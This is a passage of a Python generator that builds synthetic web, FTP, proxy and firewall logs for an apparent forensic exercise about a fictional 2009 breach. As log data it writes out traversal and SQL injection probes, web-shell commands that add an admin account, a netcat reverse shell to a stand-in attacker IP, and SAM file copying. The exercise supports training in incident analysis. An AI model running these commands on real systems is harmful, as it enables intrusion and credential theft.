#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""Writes the logs of ../sample-case/logs, what they hold (truth.json), and the table of counts in its README.md.

    make.py            writes them
    make.py --check    compares with what is there and says what differs; exit status 1 if anything does

Only Python's standard library, and dice of its own, so that every run gives the same bytes. (The .gz and .zip are
packed by zlib, whose output may differ between builds: --check compares what is in them.)

Counts are kept while the lines are written, never by reading them back.
"""
import gzip
import io
import json
import pathlib
import sys
import zipfile
from collections import Counter
from datetime import datetime, timedelta, timezone

HERE = pathlib.Path(__file__).resolve().parent
CASE = HERE.parent / "sample-case"
UTC = timezone.utc
LOCAL = timezone(timedelta(hours=1))  # Europe/Berlin in November

WEB, OLD, PROXY, MAIL = "10.20.0.10", "10.20.0.12", "10.20.0.5", "10.20.0.7"
PUBLIC_FTP7 = "10.20.0.21"
INTRUDER, INTRUDER2 = "203.0.113.66", "198.51.100.23"
SCANNER, PINGER = "198.51.100.77", "192.0.2.141"
IE7 = "Mozilla/4.0+(compatible;+MSIE+7.0;+Windows+NT+5.1;+.NET+CLR+2.0.50727)"
IE8 = "Mozilla/4.0+(compatible;+MSIE+8.0;+Windows+NT+6.1;+Trident/4.0)"
FF3 = "Mozilla/5.0+(Windows;+U;+Windows+NT+5.1;+de;+rv:1.9.1.5)+Gecko/20091102+Firefox/3.5.5"
NIKTO = "Mozilla/4.75+(Nikto/2.03)"
STAFF = [("a.berg", "10.20.4.11", IE7), ("h.lund", "10.20.4.12", IE7), ("k.olsen", "10.20.4.13", IE8),
         ("m.weiss", "10.20.4.14", FF3), ("p.novak", "10.20.4.15", IE7), ("s.iversen", "10.20.4.16", IE8),
         ("t.brandt", "10.20.4.17", IE7), ("u.klein", "10.20.4.18", FF3), ("v.moen", "10.20.5.21", IE7),
         ("j.falk", "10.20.5.22", IE8), ("l.holm", "10.20.5.23", IE7), ("e.dahl", "10.20.5.24", IE7)]
NO_CREDENTIALS, DENIED = 2148074254, 2148074252


class Dice:
    """splitmix64: a few lines, and the same numbers everywhere."""

    def __init__(self, seed):
        self.state = seed

    def word(self):
        self.state = (self.state + 0x9E3779B97F4A7C15) & (2**64 - 1)
        z = self.state
        z = ((z ^ z >> 30) * 0xBF58476D1CE4E5B9) & (2**64 - 1)
        z = ((z ^ z >> 27) * 0x94D049BB133111EB) & (2**64 - 1)
        return z ^ z >> 31

    def below(self, n):
        return self.word() % n

    def between(self, low, high):
        return low + self.below(high - low + 1)

    def pick(self, things):
        return things[self.below(len(things))]

    def chance(self, percent):
        return self.below(100) < percent


def utc(text):
    return datetime.strptime(text, "%Y-%m-%d %H:%M:%S").replace(tzinfo=UTC)


def stamp(t):
    return t.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%S.000000Z")


class Log:
    """Lines of one source, and what is to be found in them."""

    def __init__(self, path, form, encoding="utf-8", member=None, newline="\r\n", zone="UTC"):
        self.path, self.form, self.encoding, self.member = path, form, encoding, member
        self.newline, self.zone = newline, zone
        self.rows = []  # (time or None, order, kind, text, facts)

    def add(self, time, text, status=None, kind=None, login=None):
        self.rows.append((time, len(self.rows), "event", text, (status, kind, login)))

    def directive(self, *lines):
        for line in lines:
            self.rows.append((None, len(self.rows), "directive", line, None))

    def in_order(self):
        """Events in order of time; directives stay at the front. Only for logs without restarts."""
        self.rows.sort(key=lambda r: (r[0] is not None, r[0] or utc("2000-01-01 00:00:00"), r[1]))

    def text(self):
        return "".join(r[3] + self.newline for r in self.rows)

    def bytes(self):
        if self.encoding == "utf-16le":
            return b"\xff\xfe" + self.text().encode("utf-16-le")
        return self.text().encode("utf-8")

    def truth(self):
        lines = Counter(r[2] for r in self.rows)
        events = [r for r in self.rows if r[2] == "event"]
        times = [r[0] for r in events]
        logins = Counter(r[4][2] for r in events if r[4][2])
        out = {
            "path": "logs/" + self.path, "member": self.member, "format": self.form, "encoding": self.encoding,
            "zone": self.zone,
            "lines": {"total": len(self.rows),
                      **{k: lines[k] for k in ("event", "continuation", "directive", "blank", "rejected")}},
            "events": len(events), "first": stamp(min(times)), "last": stamp(max(times)),
            "status": {str(k): v for k, v in sorted(Counter(r[4][0] for r in events if r[4][0]).items())},
            "kind": dict(sorted(Counter(r[4][1] or "other" for r in events).items())),
        }
        if self.form == "iis-w3c-ftp":
            out["logins"] = {"succeeded": logins["succeeded"], "failed": logins["failed"]}
        return out


# --- the intranet site: IIS 6, W3C extended, UTC ----------------------------------------------------------------

WEB_FIELDS = ("date time s-sitename s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) "
              "sc-status sc-substatus sc-win32-status sc-bytes cs-bytes time-taken")
PAGES = ["/default.aspx", "/news/default.aspx", "/docs/list.aspx", "/orders/list.aspx", "/orders/detail.aspx",
         "/phone/search.aspx", "/canteen/week47.htm", "/projects/board.aspx", "/docs/travel_form.doc",
         "/docs/price_list_2009.xls"]
PARTS = ["/styles/intra.css", "/images/logo.gif", "/images/menu.gif", "/scripts/menu.js"]


def software(log, version, start, fields):
    log.directive("#Software: Microsoft Internet Information Services " + version, "#Version: 1.0",
                  "#Date: " + start.strftime("%Y-%m-%d %H:%M:%S"), "#Fields: " + fields)


def web_row(log, t, method, path, query, user, client, agent, status, sub, win32, sent, received, taken):
    log.add(t, f"{t:%Y-%m-%d %H:%M:%S} W3SVC1 {WEB} {method} {path} {query} 80 {user} {client} {agent} "
               f"{status} {sub} {win32} {sent} {received} {taken}", status, "http.request")


def handshake(log, dice, t, path, name, client, agent, scheme, mistyped=False):
    """What IIS 6 writes for one new connection under Windows authentication."""
    web_row(log, t, "GET", path, "-", "-", client, agent, 401, 2, NO_CREDENTIALS, 1870, 310, dice.between(0, 15))
    if mistyped:
        for _ in range(dice.between(1, 2)):
            web_row(log, t, "GET", path, "-", "-", client, agent, 401, 1, 0, 2014, 390, dice.between(0, 15))
            t += timedelta(seconds=dice.between(3, 9))
            web_row(log, t, "GET", path, "-", "-", client, agent, 401, 1, DENIED, 1870, 610, dice.between(15, 60))
    if scheme == "ntlm":
        web_row(log, t, "GET", path, "-", "-", client, agent, 401, 1, 0, 2014, 390, dice.between(0, 15))
    t += timedelta(seconds=dice.below(2))
    web_row(log, t, "GET", path, "-", "HALDEN\\" + name, client, agent, 200, 0, 0, dice.between(4000, 30000),
            dice.between(500, 3800), dice.between(30, 400))
    return t


def office_day(log, dice, day, sessions):
    for _ in range(sessions):
        name, client, agent = dice.pick(STAFF)
        t = day + timedelta(seconds=dice.between(6 * 3600 + 1800, 17 * 3600))
        scheme = "ntlm" if agent == FF3 or dice.chance(35) else "kerberos"
        t = handshake(log, dice, t, dice.pick(PAGES[:4]), name, client, agent, scheme, dice.chance(3))
        for _ in range(dice.between(3, 9)):
            path = dice.pick(PARTS) if dice.chance(45) else dice.pick(PAGES)
            query = f"id={dice.between(20100, 20950)}" if path.endswith("detail.aspx") else "-"
            status, win32, sent = (304, 0, 210) if path in PARTS and dice.chance(70) else (200, 0,
                                                                                        dice.between(900, 60000))
            if dice.chance(1):
                status, win32, sent = 404, 2, 1795
            elif dice.chance(1):
                win32 = 64
            web_row(log, t, "GET", path, query, "HALDEN\\" + name, client, agent, status, 0, win32, sent,
                    dice.between(400, 900), dice.between(0, 700))
            t += timedelta(seconds=dice.between(0, 40))


def machines(log, dice, day, hours):
    """The search robot (NTLM) every hour, and a monitor that has no account at all."""
    for hour in hours:
        t = day + timedelta(hours=hour, minutes=4, seconds=dice.below(50))
        t = handshake(log, dice, t, "/docs/list.aspx", "svc_search", "10.20.0.30", "MS+Search+6.0+Robot", "ntlm")
        for _ in range(dice.between(2, 5)):
            web_row(log, t, "GET", dice.pick(PAGES), "-", "HALDEN\\svc_search", "10.20.0.30", "MS+Search+6.0+Robot",
                    dice.pick([200, 304, 304]), 0, 0, dice.between(200, 9000), 420, dice.between(0, 90))
            t += timedelta(seconds=dice.between(1, 4))
        for quarter in range(4):
            t = day + timedelta(hours=hour, minutes=15 * quarter, seconds=1)
            web_row(log, t, "HEAD", "/default.aspx", "-", "-", "10.20.0.50", "WhatsUp+Monitor/3.1", 401, 2,
                    NO_CREDENTIALS, 230, 140, 0)


PROBES = [
    ("/scripts/..%255c..%255cwinnt/system32/cmd.exe", "/c+dir+c:\\", 404, 2, 1260),
    ("/scripts/..%c0%af../winnt/system32/cmd.exe", "/c+dir+c:\\", 404, 0, 3),
    ("/scripts/..%c1%9c../winnt/system32/cmd.exe", "/c+dir", 404, 0, 3),
    ("/msadc/..%255c../..%255c../..%255c../winnt/system32/cmd.exe", "/c+dir", 404, 0, 3),
    ("/_vti_bin/..%255c..%255c..%255cwinnt/system32/cmd.exe", "/c+dir", 404, 2, 1260),
    ("/scripts/root.exe", "/c+dir", 404, 0, 2), ("/MSADC/root.exe", "/c+dir", 404, 0, 3),
    ("/c/winnt/system32/cmd.exe", "/c+dir", 404, 0, 3),
    ("/default.ida", "NNNNNNNNNNNNNNNNNNNNNNNN%u9090", 404, 2, 1260),
    ("/null.printer", "-", 404, 2, 1260), ("/iisadmpwd/aexp2.htr", "-", 404, 2, 1260),
    ("/global.asa+.htr", "-", 404, 2, 1260), ("/default.asp::$DATA", "-", 404, 0, 123),
    ("/../../../../boot.ini", "-", 404, 0, 2), ("/images/../../../../winnt/win.ini", "-", 404, 0, 3),
    ("/upload/..%5c..%5cweb.config", "-", 404, 3, 50), ("/_vti_pvt/service.pwd", "-", 404, 0, 3),
    ("/phpmyadmin/index.php", "-", 404, 0, 3), ("/cgi-bin/test-cgi", "-", 404, 0, 3),
    ("/backup/site.zip", "-", 404, 0, 3), ("/upload/", "-", 403, 14, 5), ("/scripts/", "-", 403, 2, 5),
    ("/public/search.asp", "q=<script>alert(1)</script>", 200, 0, 0),
    ("/public/search.asp", "q=test%27|18|80040e14|Unclosed_quotation_mark_before_the_character_string_'test'.", 500,
     100, 0),
]


def scan(log, dice):
    """02:03 to 02:08 UTC on the 17th: a scanner that does not hide."""
    t = utc("2009-11-17 02:03:11")
    words = ["admin", "test", "old", "temp", "backup", "include", "data", "cgi", "bin", "private", "secret", "db",
             "user", "shop", "forum", "mail", "stats", "logs", "install", "setup"]
    ends = ["/", ".asp", ".aspx", ".mdb", ".bak", ".txt", "_old.asp", ".inc"]
    for path, query, status, sub, win32 in PROBES:
        web_row(log, t, "GET", path, query, "-", INTRUDER, NIKTO, status, sub, win32,
                4100 if status == 200 else 1795, dice.between(190, 300), dice.between(0, 30))
        t += timedelta(seconds=dice.below(3))
    for word in words:
        for end in ends:
            sub, win32 = (3, 50) if end in (".mdb", ".bak", ".inc") else (0, 3 if end == "/" else 2)
            web_row(log, t, dice.pick(["GET", "HEAD"]), f"/{word}{end}", "-", "-", INTRUDER, NIKTO, 404, sub, win32,
                    1795, dice.between(190, 300), dice.between(0, 15))
            t += timedelta(seconds=dice.below(3))
    for path in ("/default.aspx", "/docs/list.aspx", "/orders/list.aspx"):
        web_row(log, t, "GET", path, "-", "-", INTRUDER, NIKTO, 401, 2, NO_CREDENTIALS, 1870, 240, 0)
        t += timedelta(seconds=1)
    for method in ("TRACE", "PUT", "PROPFIND", "SEARCH"):
        web_row(log, t, method, "/", "-", "-", INTRUDER, NIKTO, 501 if method == "TRACE" else 403, 0 if method ==
                "TRACE" else 1, 0, 1795, 260, 0)
        t += timedelta(seconds=1)


def injection(log, dice):
    """02:14 to 02:19 UTC: the search page breaks on a quote, and then gives away what it should not."""
    agent, t = FF3.replace("de;", "en-US;"), utc("2009-11-17 02:14:02")
    errors = ["80040e14|Incorrect_syntax_near_'1'.", "80040e07|Conversion_failed:_'Microsoft_SQL_Server_2005'",
              "80040e14|Column_'products.id'_is_invalid_in_the_select_list"]
    for n in range(18):
        query = f"q=x%27%20AND%20{n}=(SELECT%20@@version)--|31|" + errors[n % 3]
        web_row(log, t, "GET", "/public/search.asp", query, "-", INTRUDER, agent, 500, 100, 0, 940, 420,
                dice.between(15, 90))
        t += timedelta(seconds=dice.between(4, 12))
    for columns, sent in ((3, 5120), (4, 5233), (5, 184220), (5, 391004)):
        query = "q=x%27%20UNION/**/SELECT%20" + "name," * (columns - 1) + "pwd+FROM+customers--"
        web_row(log, t, "GET", "/public/search.asp", query, "-", INTRUDER, agent, 200, 0, 0, sent, 480,
                dice.between(200, 900))
        t += timedelta(seconds=dice.between(9, 20))


COMMANDS = ["whoami", "ipconfig+/all", "dir+c:%5c", "dir+d:%5cdata", "net+view", "net+user",
            "net+user+support+***+/add", "net+localgroup+administrators+support+/add", "netstat+-an",
            "tasklist", "dir+d:%5cbackup"]


def web_shell(log, dice):
    """03:01 UTC: what was uploaded over FTP is called over the web. 200 means that it ran."""
    agent, t = FF3.replace("de;", "en-US;"), utc("2009-11-17 03:01:22")
    web_row(log, t, "GET", "/upload/help.asp", "-", "-", INTRUDER, agent, 200, 0, 0, 2214, 390, 46)
    for command in COMMANDS:
        t += timedelta(seconds=dice.between(11, 47))
        web_row(log, t, "GET", "/upload/help.asp", "c=" + command, "-", INTRUDER, agent, 200, 0, 0,
                dice.between(900, 7000), 420, dice.between(60, 1900))
    t += timedelta(seconds=31)
    netcat = "d:%5cinetpub%5cftproot%5cupload%5cnc.exe+-d+-e+cmd.exe+203.0.113.66+443"
    web_row(log, t, "GET", "/upload/cmd.exe", "/c+" + netcat, "-", INTRUDER, agent, 502, 2, 0, 312, 455, 30094)
    for _ in range(14):
        t += timedelta(seconds=dice.between(20, 90))
        web_row(log, t, "POST", "/upload/help.asp", "-", "-", INTRUDER, agent, 200, 0, 0, dice.between(600, 21000),
                dice.between(500, 2600), dice.between(60, 4000))


def morning_after(log, dice):
    """The 18th: h.lund's password was changed by somebody, and her account is locked in the end."""
    t, agent = utc("2009-11-18 07:42:10"), IE7
    for n in range(9):
        web_row(log, t, "GET", "/default.aspx", "-", "-", "10.20.4.12", agent, 401, 2, NO_CREDENTIALS, 1870, 310, 0)
        web_row(log, t, "GET", "/default.aspx", "-", "-", "10.20.4.12", agent, 401, 1, 0, 2014, 390, 0)
        t += timedelta(seconds=dice.between(6, 20))
        web_row(log, t, "GET", "/default.aspx", "-", "-", "10.20.4.12", agent, 401, 1, 1909 if n > 4 else DENIED, 1870,
                610, dice.between(15, 60))
    web_row(log, utc("2009-11-18 08:05:33"), "GET", "/upload/help.asp", "-", "HALDEN\\t.brandt", "10.20.4.17", IE7, 404,
            0, 2, 1795, 420, 0)


def web_logs(dice):
    logs = []
    for day, sessions in (("16", 200), ("17", 215), ("18", 150)):
        log = Log(f"web/ex0911{day}.log", "iis-w3c-http")
        start = utc(f"2009-11-{day} 00:00:00")
        software(log, "6.0", start, WEB_FIELDS)
        office_day(log, dice, start, sessions)
        machines(log, dice, start, range(24) if day != "18" else range(12))
        if day == "17":
            scan(log, dice)
            injection(log, dice)
            web_shell(log, dice)
        if day == "18":
            log.rows = [r for r in log.rows if r[0] is None or r[0] < utc("2009-11-18 12:00:00")]
            morning_after(log, dice)
        log.in_order()
        logs.append(log)
    sunday = Log("web/archive/ex091115.log.gz", "iis-w3c-http")
    software(sunday, "6.0", utc("2009-11-15 00:00:00"), WEB_FIELDS)
    machines(sunday, dice, utc("2009-11-15 00:00:00"), range(24))
    sunday.in_order()
    friday = Log("web/archive/ex091113.zip", "iis-w3c-http", member="W3SVC1/ex091113.log")
    software(friday, "6.0", utc("2009-11-13 00:00:00"), WEB_FIELDS)
    office_day(friday, dice, utc("2009-11-13 00:00:00"), 60)
    friday.in_order()
    return logs + [sunday, friday]


def personnel_log(dice):
    """A second site, exported by hand with an editor: UTF-16 with a byte order mark, time alone in the rows."""
    log = Log("web/personnel_091117.log", "iis-w3c-http", encoding="utf-16le")
    software(log, "6.0", utc("2009-11-17 07:00:00"),
             "time c-ip cs-username cs-method cs-uri-stem sc-status sc-substatus sc-win32-status")
    t = utc("2009-11-17 07:02:00")
    for _ in range(140):
        t += timedelta(seconds=dice.between(5, 400))
        name, client, _ = dice.pick(STAFF)
        path = dice.pick(["/urlaub/antrag.aspx", "/urlaub/übersicht.aspx", "/gehalt/märz_2009.pdf",
                          "/kontakt/møter.htm"])
        if dice.chance(6):
            log.add(t, f"{t:%H:%M:%S} {client} HALDEN\\{name} GET {path} 401 3 5", 401, "http.request")
        else:
            log.add(t, f"{t:%H:%M:%S} {client} HALDEN\\{name} GET {path} 200 0 0", 200, "http.request")
    return log


# --- FTP on the same machine: IIS 6, W3C extended, connection ids, time alone ------------------------------------

FTP_FIELDS = "time c-ip cs-username s-ip s-port cs-method cs-uri-stem sc-status sc-win32-status"


class Ftp:
    def __init__(self, log, first_id):
        self.log, self.next_id = log, first_id

    def connect(self):
        self.next_id += 1
        return self.next_id - 1

    def row(self, t, client, user, cid, verb, argument, reply, win32=0):
        kind = ("ftp.login" if verb == "PASS" and reply in (230, 530) else
                "ftp.transfer" if verb in ("sent", "created") else "ftp.command")
        login = {230: "succeeded", 530: "failed"}[reply] if kind == "ftp.login" else None
        self.log.add(t, f"{t:%H:%M:%S} {client} {user} {WEB} 21 [{cid}]{verb} {argument} {reply} {win32}", reply, kind,
                     login)

    def login(self, t, client, cid, user, ok, typed="-", win32=1326):
        self.row(t, client, user, cid, "USER", user, 331)
        self.row(t, client, user if ok else "-", cid, "PASS", typed, 230 if ok else 530, 0 if ok else win32)


def ftp_noise(ftp, dice, day, start_hour, end_hour):
    """Browsers and scanners that try anonymous (it is off), and customers who bring their orders."""
    jobs = []
    for _ in range((end_hour - start_hour) // 2):
        jobs.append((dice.between(start_hour * 3600, end_hour * 3600 - 900), dice.pick(["ie", "ie", "ping", "user"])))
    for hour in (7, 9, 11, 13, 15):
        if start_hour <= hour < end_hour:
            jobs.append((hour * 3600 + dice.below(3000), "customer"))
    for seconds, what in sorted(jobs):
        t, cid = day + timedelta(seconds=seconds), ftp.connect()
        if what == "ie":
            for _ in range(2):
                ftp.login(t, SCANNER, cid, "anonymous", False, "IEUser@")
        elif what == "ping":
            ftp.login(t, PINGER, cid, "anonymous", False, dice.pick("ABCDEFGHIJ") + "gpuser@home.com")
        elif what == "user":
            ftp.login(t, "192.0.2.9", cid, "anonymous@ftp.example.com", False)
        else:
            name = dice.pick(["kunde1", "kunde2", "nordpress"])
            client = {"kunde1": "192.0.2.31", "kunde2": "192.0.2.32", "nordpress": "198.51.100.140"}[name]
            if dice.chance(30):
                ftp.login(t, client, cid, name, False)
                t += timedelta(seconds=dice.between(4, 15))
            ftp.login(t, client, cid, name, True)
            for n in range(dice.between(1, 5)):
                t += timedelta(seconds=dice.between(2, 60))
                ftp.row(t, client, name, cid, "created", f"/orders/{name}_{day:%y%m%d}_{n + 1}.xml", 226)
            ftp.row(t + timedelta(seconds=1), client, name, cid, "QUIT", "-", 226)


def brute_force(ftp, dice):
    """02:31 to 02:58 UTC on the 17th: 412 passwords for Administrator, four a connection, and then the right one."""
    t, left = utc("2009-11-17 02:31:05"), 412
    while left:
        cid = ftp.connect()
        for _ in range(min(4, left)):
            ftp.login(t, INTRUDER, cid, "Administrator", False)
            t += timedelta(seconds=dice.between(2, 5))
            left -= 1
    t, cid = utc("2009-11-17 02:57:41"), ftp.connect()
    ftp.login(t, INTRUDER, cid, "Administrator", True)
    return cid


def uploads(ftp, cid):
    who = (INTRUDER, "Administrator", cid)
    for clock, verb, path, reply, win32 in (
            ("02:58:20", "CWD", "/upload", 250, 0), ("02:58:41", "MKD", "/upload/tmp", 257, 0),
            ("02:59:10", "created", "/upload/help.asp", 226, 0), ("02:59:33", "created", "/upload/nc.exe", 226, 0),
            ("02:59:58", "created", "/upload/cmd.exe", 226, 0), ("03:00:31", "created", "/web.config", 550, 5),
            ("03:19:02", "CWD", "/backup", 250, 0), ("03:24:47", "sent", "/backup/customers_2009.mdb", 226, 0),
            ("03:26:30", "sent", "/backup/payroll.mdb", 426, 10054),
            ("03:41:12", "sent", "/backup/payroll.mdb", 226, 0), ("03:41:30", "closed", "-", 426, 10054)):
        ftp.row(utc("2009-11-17 " + clock), who[0], who[1], who[2], verb, path, reply, win32)


def ftp_logs(dice):
    monday = Log("ftp/ex091116.log", "iis-w3c-ftp")
    software(monday, "6.0", utc("2009-11-16 00:00:09"), FTP_FIELDS)
    ftp_noise(Ftp(monday, 871), dice, utc("2009-11-16 00:00:00"), 0, 24)

    tuesday = Log("ftp/ex091117.log", "iis-w3c-ftp")
    software(tuesday, "6.0", utc("2009-11-17 00:00:02"), FTP_FIELDS)
    ftp = Ftp(tuesday, 903)
    ftp_noise(ftp, dice, utc("2009-11-17 00:00:00"), 0, 2)
    uploads(ftp, brute_force(ftp, dice))
    ftp_noise(ftp, dice, utc("2009-11-17 00:00:00"), 4, 24)

    # The 18th: traces removed at 01:02, the machine goes down at 01:09 (NULs where the last page was to be written),
    # ids begin again at 1, and the copy of the log was taken in mid-line.
    wednesday = Log("ftp/ex091118.log", "iis-w3c-ftp")
    software(wednesday, "6.0", utc("2009-11-18 00:00:04"), FTP_FIELDS)
    ftp = Ftp(wednesday, 1057)
    cid = ftp.connect()
    ftp.login(utc("2009-11-18 01:01:37"), INTRUDER2, cid, "Administrator", True)
    for clock, path in (("01:02:03", "/upload/help.asp"), ("01:02:09", "/upload/nc.exe"),
                        ("01:02:14", "/upload/cmd.exe")):
        ftp.row(utc("2009-11-18 " + clock), INTRUDER2, "Administrator", cid, "DELE", path, 250)
    ftp.row(utc("2009-11-18 01:02:31"), INTRUDER2, "Administrator", cid, "RMD", "/upload/tmp", 250)
    ftp.row(utc("2009-11-18 01:02:40"), INTRUDER2, "Administrator", cid, "QUIT", "-", 226)
    wednesday.directive("\0" * 3072 + "#Software: Microsoft Internet Information Services 6.0", "#Version: 1.0",
                        "#Date: 2009-11-18 06:11:50", "#Fields: " + FTP_FIELDS)
    ftp_noise(Ftp(wednesday, 1), dice, utc("2009-11-18 00:00:00"), 7, 12)
    wednesday.rows.append((None, len(wednesday.rows), "rejected", "11:5", None))
    return [monday, tuesday, wednesday]


# --- FTP for partners: IIS 7.5, sessions by x-session ------------------------------------------------------------

FTP7_FIELDS = ("date time c-ip cs-username s-ip s-port cs-method cs-uri-stem sc-status sc-win32-status sc-substatus "
               "x-session x-fullpath")


class Ftp7:
    def __init__(self, log, dice):
        self.log, self.dice = log, dice

    def session(self):
        a, b = self.dice.word(), self.dice.word()
        h = f"{a:016x}{b:016x}"
        return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-a{h[17:20]}-{h[20:]}"

    def row(self, t, client, user, verb, argument, reply, win32, sub, session, path="-", port=21):
        kind = ("ftp.login" if verb == "PASS" and reply in (230, 530) else
                "ftp.transfer" if verb in ("RETR", "STOR") else "ftp.command")
        login = {230: "succeeded", 530: "failed"}[reply] if kind == "ftp.login" else None
        self.log.add(t, f"{t:%Y-%m-%d %H:%M:%S} {client} {user} {PUBLIC_FTP7} {port} {verb} {argument} {reply} {win32} "
                        f"{sub} {session} {path}", reply if reply != "-" else None, kind, login)

    def visit(self, t, client, name, ok, transfers=(), closes=True):
        s, anonymous = self.session(), name == "anonymous"
        user = "HALDEN\\" + name if ok else "-"
        self.row(t, client, "-", "ControlChannelOpened", "-", "-", 0, 0, s)
        self.row(t, client, "-", "USER", name, 331, 0, 0, s)
        if not ok:
            self.row(t, client, "-", "PASS", "IEUser@" if anonymous else "***", 530, 1326, 42 if anonymous else 41, s)
        else:
            self.row(t, client, user, "PASS", "***", 230, 0, 0, s, "/")
            self.row(t, client, user, "opts", "utf8+on", 200, 0, 0, s)
            self.row(t, client, user, "PWD", "-", 257, 0, 0, s)
        for verb, path in transfers:
            t += timedelta(seconds=self.dice.between(2, 40))
            port = self.dice.between(49200, 49900)
            self.row(t, client, user, "PASV", "-", 227, 0, 0, s)
            self.row(t, client, user, "DataChannelOpened", "-", "-", 0, 0, s, port=port)
            self.row(t, client, user, "DataChannelClosed", "-", "-", 0, 0, s, port=port)
            self.row(t, client, user, verb, path.rsplit("/", 1)[1], 226, 0, 0, s, path)
        if closes:
            self.row(t + timedelta(seconds=1), client, user, "ControlChannelClosed", "-", "-", 0, 0, s)


def ftp7_logs(dice):
    logs = []
    for day in (17, 18):
        log = Log(f"ftp-partners/u_ex0911{day}.log", "iis-w3c-ftp")
        start = utc(f"2009-11-{day} 00:00:00")
        software(log, "7.5", start, FTP7_FIELDS)
        ftp, visits = Ftp7(log, dice), []
        for _ in range(26 if day == 17 else 14):
            visits.append(start + timedelta(seconds=dice.between(5 * 3600, (18 if day == 17 else 11) * 3600)))
        for t in sorted(visits):
            name = dice.pick(["anonymous", "werkstatt", "werkstatt", "spedition", "spedition", "agentur"])
            client = {"anonymous": SCANNER, "werkstatt": "192.0.2.70", "spedition": "192.0.2.80",
                      "agentur": "2001:db8:40::17"}[name]
            if name == "anonymous":
                ftp.visit(t, client, name, False)
                continue
            if dice.chance(20):
                ftp.visit(t, client, name, False)
                t += timedelta(seconds=12)
            ftp.visit(t, client, name, True, [(dice.pick(["RETR", "STOR"]), f"/{name}/{t:%H%M}_{n}.pdf")
                                              for n in range(dice.between(1, 4))], dice.chance(85))
        if day == 18:
            ftp.visit(utc("2009-11-18 00:41:07"), INTRUDER2, "support", True,
                      [("RETR", f"/drawings/{name}.dwg") for name in
                       ("pump_a7", "pump_a8", "valve_set", "sensor_head", "controller_r3", "housing")])
        log.in_order()
        logs.append(log)
    return logs


# --- an old server with IIS's own format, a proxy, a firewall, a mail server --------------------------------------

def native_log(dice):
    log = Log("old-server/in091117.log", "iis-native", zone="Europe/Berlin")

    def row(t, client, user, verb, path, query, status, win32, ms, received, sent):
        l = t.astimezone(LOCAL)
        log.add(t, f"{client}, {user}, {l.month}/{l.day}/{l:%y}, {l.hour}:{l:%M:%S}, W3SVC1, OLDSRV, {OLD}, {ms}, "
                   f"{received}, {sent}, {status}, {win32}, {verb}, {path}, {query},", status, "http.request")

    for _ in range(620):
        name, client, _ = dice.pick(STAFF)
        t = utc("2009-11-17 00:00:00") + timedelta(seconds=dice.between(6 * 3600, 17 * 3600))
        path = dice.pick(["/catalog/default.asp", "/catalog/list.asp", "/catalog/item.asp", "/images/head.gif"])
        status, win32 = dice.pick([(200, 0)] * 12 + [(304, 0)] * 5 + [(404, 2)])
        row(t, client, "-", "GET", path, f"nr={dice.between(100, 999)}" if "item" in path else "-", status, win32,
            dice.between(0, 300), dice.between(200, 500), dice.between(150, 20000))
    t = utc("2009-11-17 03:25:10")
    for query in ("/c+dir+c:\\", "/c+net+view", "/c+type+c:\\winnt\\repair\\setup.log",
                  "/c+copy+c:\\winnt\\repair\\sam+d:\\pub"):
        row(t, WEB, "-", "GET", "/scripts/..%c0%af../winnt/system32/cmd.exe", query, 200, 0, dice.between(60, 900), 310,
            dice.between(700, 5200))
        t += timedelta(seconds=dice.between(20, 60))
    row(t, WEB, "-", "GET", "/pub/sam", "-", 200, 0, 210, 280, 24576)
    log.in_order()
    return log


def proxy_log(dice):
    log = Log("proxy/access_log", "ncsa", newline="\n")

    def row(t, client, request, status, size, referer="-", agent="-", user="-"):
        log.add(t, f'{client} - {user} [{t.astimezone(LOCAL):%d/%b/%Y:%H:%M:%S} +0100] "{request}" {status} {size} '
                   f'"{referer}" "{agent}"', status, "http.request")

    agents = ["Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.0)", "Mozilla/5.0 (compatible; Googlebot/2.1)",
              "Mozilla/5.0 (Windows; U; Windows NT 6.0; en-GB; rv:1.9.1.5) Gecko/20091102 Firefox/3.5.5"]
    pages = ["/", "/products/pumps.html", "/products/sensors.html", "/contact.html", "/img/title.jpg", "/style.css",
             "/downloads/catalogue.pdf", "/robots.txt"]
    for _ in range(1650):
        t = utc("2009-11-16 05:00:00") + timedelta(seconds=dice.below(55 * 3600))
        client = dice.pick([f"192.0.2.{dice.between(100, 139)}", f"198.51.100.{dice.between(150, 199)}",
                            f"2001:db8:7::{dice.between(1, 40):x}"])
        status = dice.pick([200] * 14 + [304] * 5 + [404])
        row(t, client, f"GET {dice.pick(pages)} HTTP/1.1", status, 0 if status == 304 else dice.between(300, 90000),
            dice.pick(["-", "http://www.halden.example/"]), dice.pick(agents))
    t = utc("2009-11-17 01:52:40")
    for path in ("/", "/admin/", "/cgi-bin/phf?Qalias=x%0a/bin/cat%20/etc/passwd", "/..%2f..%2f..%2fetc/passwd",
                 "/.git/", "/phpmyadmin/", "/server-status", "/ftp/", "/downloads/", "/products/?id=1%20or%201=1"):
        status = 200 if path in ("/", "/downloads/") else 404
        row(t, INTRUDER, f"GET {path} HTTP/1.0", status, dice.between(200, 5000), "-", "Mozilla/4.75 (Nikto/2.03)")
        t += timedelta(seconds=dice.between(1, 9))
    row(utc("2009-11-17 01:51:58"), INTRUDER, "\\x16\\x03\\x01\\x00\\x5a", 400, 226)
    row(utc("2009-11-17 01:52:03"), INTRUDER, "CONNECT mail.example.net:25 HTTP/1.0", 405, 230)
    log.in_order()
    return log


def firewall_log(dice):
    """Kerio WinRoute's security log: local time."""
    log = Log("firewall/security.log", "kerio-security", zone="Europe/Berlin", newline="\r\n")
    kinds = {"Engine: Startup.": "service.start", "Engine: Shutdown.": "service.stop", "Anti-Spoofing": "net.spoofed",
             "IPS": "net.ips", "FTP": "ftp.bounce", "Authentication": "auth.failure"}

    def row(t, text):
        kind = kinds.get(text, kinds.get(text.split(":")[0]))
        log.add(t, kind=kind, text=f"[{t.astimezone(LOCAL):%d/%b/%Y %H:%M:%S}] {text}")

    row(utc("2009-11-16 05:02:11"), "Engine: Startup.")
    for _ in range(70):
        t = utc("2009-11-16 05:10:00") + timedelta(seconds=dice.below(54 * 3600))
        row(t, f"Anti-Spoofing: Packet from LAN, proto:TCP, len:48, ip/port:192.168.{dice.below(4)}."
               f"{dice.between(2, 90)}:{dice.between(1024, 5000)} -> 192.0.2.{dice.between(1, 250)}:"
